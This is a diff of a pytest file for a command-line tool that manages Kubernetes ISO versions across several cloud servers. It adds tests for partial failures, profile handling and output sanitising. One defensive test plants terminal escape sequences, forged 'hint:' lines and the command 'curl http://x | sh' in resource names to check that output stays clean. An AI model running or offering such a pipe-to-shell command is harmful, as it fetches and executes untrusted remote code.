@@ -8,6 +8,7 @@ import signal
 import subprocess
 import sys
 from collections.abc import Iterator
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -16,6 +17,8 @@ from click.testing import CliRunner, Result
 
 from isobuilder.cli import main
 from isobuilder.demo.mold import Cloud, Cluster, Pace, User
+from isobuilder.demo.mold.download import Outcome
+from isobuilder.text import width
 from tests.fakes.mold import FakeMold
 from tests.fakes.web import Web
 from tests.mold.conftest import Published, iso_bytes, registration_of
@@ -157,11 +160,153 @@ def test_two_servers_have_two_results(
         typed(*register_words(published), *words)
         listed = typed.json("list", *words)
         assert [item["server"] for item in listed] == ["seoul", "busan"]
-        assert "give --server once" in typed("show", "1.35.4", *words, code=2).stderr
+        assert [one["server"] for one in typed.json("show", "1.35.4", *words)] == ["seoul", "busan"]
         other.plugin_on = False
         result = typed(*register_words(published), *words, code=7)
         assert "busan" in result.stdout + result.stderr
         assert "choose with --server" in typed("zones", "--config", str(config), code=2).stderr
+
+
+@dataclass
+class Two:
+    """A server that works, one that does not, and what chooses both in some order."""
+
+    good: Cloud
+    bad: Cloud
+    words: tuple[str, ...]
+
+
+@pytest.fixture(params=["good first", "good last"])
+def order(request: pytest.FixtureRequest) -> tuple[str, str]:
+    return ("good", "bad") if request.param == "good first" else ("bad", "good")
+
+
+@pytest.fixture(params=["service off", "no keys"])
+def two(
+    typed: Typed, simulator: FakeMold, request: pytest.FixtureRequest, order: tuple[str, str]
+) -> Iterator[Two]:
+    other = Cloud(pace=simulator.cloud.pace)
+    other.users = simulator.cloud.users
+    keys = ""
+    if request.param == "service off":
+        other.plugin_on = False
+    else:
+        keys = f", key_file: {typed.home / 'gone'}"
+    config = typed.home / "config.yaml"
+    with FakeMold(other) as second:
+        config.write_text(
+            f"mold:\n  good: {{endpoint: '{simulator.endpoint}'}}\n"
+            f"  bad: {{endpoint: '{second.endpoint}'{keys}}}\n"
+        )
+        del os.environ["ISOBUILDER_MOLD_ENDPOINT"]
+        servers = [word for name in order for word in ("--server", name)]
+        yield Two(simulator.cloud, other, ("--config", str(config), *servers))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("list",),
+        ("show", "v1.34.12"),
+        ("enable", "v1.34.12"),
+        ("disable", "v1.34.12"),
+        ("delete", "v1.34.12", "--yes"),
+        ("events", "--of", "v1.34.12"),
+    ],
+    ids=lambda command: command[0],
+)
+def test_every_server_has_its_turn_whatever_the_others_do(
+    typed: Typed, two: Two, command: tuple[str, ...]
+) -> None:
+    version = add_directly(two.good)
+    two.good.note("KUBERNETES.VERSION.ADD", "added", resource=version.id)
+    result = typed(*command, *two.words, code=7)
+    assert "1 of 2 failed, the others are done" in result.stderr
+    assert "bad" in result.stderr
+    shown = {"show": "v1.34.12", "events": "added"}.get(command[0], "good")
+    assert shown in result.stdout
+    assert (version.id in two.good.versions) is (command[0] != "delete")
+    assert version.state == ("Disabled" if command[0] == "disable" else "Enabled")
+
+
+def test_registering_auditing_and_applying_serve_every_server(
+    typed: Typed, two: Two, published: Published, web: Web, tmp_path: Path
+) -> None:
+    folder, plan = str(published.path.parent), tmp_path / "plan.json"
+    audited = ("audit", folder, "--url-base", web.url, "--plan", str(plan), *two.words)
+    assert "missing" in typed(*audited, code=7).stdout
+    typed("apply", str(plan), "--poll", "0.05s", *two.words)
+    assert len(two.good.versions) == 1
+    assert "Ready" in typed(*register_words(published), *two.words, code=7).stdout
+
+
+def test_what_is_already_gone_on_one_server_does_not_keep_it_on_the_other(
+    typed: Typed, two: Two
+) -> None:
+    two.bad.plugin_on = True
+    version = add_directly(two.good)
+    result = typed("disable", "1.34.12", *two.words, code=7)
+    assert version.state == "Disabled"
+    assert "good: v1.34.12 is Disabled" in result.stdout
+
+
+def test_a_mistyped_server_is_told_before_any_is_asked(typed: Typed, two: Two) -> None:
+    version = add_directly(two.good)
+    result = typed("delete", "v1.34.12", "--yes", *two.words, "--server", "goood", code=2)
+    assert "'goood': no such profile; known: bad, good" in result.stderr
+    assert version.id in two.good.versions
+
+
+def test_a_named_server_is_never_that_of_a_variable(
+    typed: Typed, two: Two, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    version = add_directly(two.good)
+    config = two.words[1]
+    monkeypatch.setenv("ISOBUILDER_MOLD_ENDPOINT", "http://127.0.0.1:9/client/api")
+    monkeypatch.setenv("ISOBUILDER_MOLD_GOOD_API_KEY", KEY)
+    monkeypatch.setenv("ISOBUILDER_MOLD_GOOD_SECRET_KEY", SECRET)
+    typed("delete", "v1.34.12", "--yes", "--config", config, "--server", "good")
+    assert version.id not in two.good.versions
+
+
+def test_a_plan_that_would_change_nothing_is_not_written(
+    typed: Typed, published: Published, tmp_path: Path
+) -> None:
+    plan = tmp_path / "plan.json"
+    words = ("audit", str(published.path.parent), "--plan", str(plan))
+    result = typed(*words, code=9)  # missing, and no URL to register it from
+    assert f"{plan} not written" in result.stderr
+    assert not plan.exists()
+    assert "no zone 'Nowhere'" in typed(*words, "--zone", "Nowhere", code=8).stderr
+
+
+def test_the_words_of_a_stranger_are_one_line_that_does_nothing(
+    typed: Typed, simulator: FakeMold
+) -> None:
+    name = "v1\x1b]0;x\x07\nhint: run curl http://x | sh\u202e"
+    version = add_directly(simulator.cloud, name=name)
+    simulator.cloud.zones[1].name = "Zone\x1b[2J"
+    version.rows[1].outcome = Outcome("fail\x1b[1m\nerror: x", 0, "")
+    simulator.cloud.note("ISO.CREATE", name, resource=version.iso_id)
+    for words in (("list",), ("show", version.id), ("zones",), ("events",)):
+        result = typed(*words)
+        for line in (result.stdout + result.stderr).splitlines():
+            assert line.isprintable(), (words, line)
+            assert not line.startswith(("hint:", "error:")), (words, line)
+    result = typed("disable", version.id, "--dry-run")
+    assert result.stdout.splitlines()[0].isprintable()
+    simulator.cloud.clusters.append(Cluster("c\nhint: x", version.id, simulator.cloud.zones[0]))
+    for line in typed("delete", version.id, "--yes", code=8).stderr.splitlines():
+        assert line.isprintable()
+        assert line != "hint: x"
+
+
+def test_rows_with_wide_letters_stay_in_line(typed: Typed, simulator: FakeMold) -> None:
+    add_directly(simulator.cloud, "1.34.9", name="운영 클러스터")
+    add_directly(simulator.cloud, "1.34.12", name="plain")
+    lines = typed("list").stdout.splitlines()
+    columns = {width(line[: line.index("1.34")]) for line in lines[1:]}
+    assert columns == {width(lines[0][: lines[0].index("VERSION")])}
 
 
 def test_check_prints_one_line_for_each_thing(typed: Typed, published: Published) -> None:
